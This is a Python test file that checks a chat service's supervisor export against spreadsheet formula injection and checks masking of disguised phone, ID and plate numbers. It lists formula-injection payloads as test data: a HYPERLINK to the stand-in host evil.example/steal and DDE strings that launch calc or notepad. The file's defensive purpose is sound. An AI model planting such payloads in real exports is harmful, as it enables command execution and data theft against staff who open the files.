"""What a resident types, as an attacker would type it, reaching staff: formulas never run in the
supervisor's spreadsheet; phone and ID numbers written to slip past masking (full-width digits,
dots, spaces, zero-width characters, a lower-case plate) are masked in the console, the export and
the log; the log never shows the web chat's session id (the key to read the chat)."""

from __future__ import annotations

import csv
import io

import pytest

from core.settings import Settings
from tests.conftest import LiveServer

SESSION = "attacker-session-7f3a9c1e5b"
FORMULAS = [
    '=HYPERLINK("http://evil.example/steal","点我查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example")',  # full-width, as a Chinese input method types it
]
# One mobile and one ID number, each hidden from a naive pattern in a different way.
DISGUISED = [
    ("１３９００１３９０００", "139****9000"),
    ("139.0014.9001", "139****9001"),
    ("139 0015 9002", "139****9002"),
    ("139\u200b0016\u200b9003", "139****9003"),
    ("110101 19900307 4518", "110101********4518"),
]
PLATE = ("浙a12345", "浙A***45")


def _say(client, text: str) -> dict:  # type: ignore[no-untyped-def]
    response = client.post("/api/chat", json={"community": "cuihu", "session_id": SESSION, "text": text})
    assert response.status_code == 200, response.text
    return response.json()


def test_formulas_a_resident_types_are_text_in_the_export_and_disguised_numbers_are_masked(
    demo_kb: Settings, capfd: pytest.CaptureFixture[str]
) -> None:
    with LiveServer(demo_kb) as live, live.client() as resident:
        for formula in FORMULAS:
            _say(resident, formula)
        numbers = "，".join(raw for raw, _ in DISGUISED)
        handed = _say(resident, f"转人工！我的电话和身份证：{numbers}，车牌{PLATE[0]}")
        assert handed["case_id"], handed

        with live.login("supervisor") as supervisor:
            export = supervisor.get("/api/communities/1/conversations/export")
            assert export.status_code == 200
            table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
            said = [row[6] for row in table[1:] if row[5] == "住户"]
            for formula in FORMULAS:
                assert f"'{formula}" in said  # shown as text, never run
            assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in table for cell in row)
            body = export.content.decode("utf-8-sig")

            case = supervisor.get(f"/api/cases/{handed['case_id']}")
            assert case.status_code == 200
            console = case.text
            queue = supervisor.get("/api/cases").text

        logged = capfd.readouterr().err
        for raw, masked in [*DISGUISED, PLATE]:
            for where, text in (("export", body), ("case view", console), ("queue", queue), ("log", logged)):
                assert raw not in text, f"{raw!r} unmasked in the {where}"
            assert masked in body and masked in console
        assert "139****9000" in logged  # the log line was written, masked
        assert SESSION not in logged  # the session id opens the chat: never logged
        assert "session#" in logged
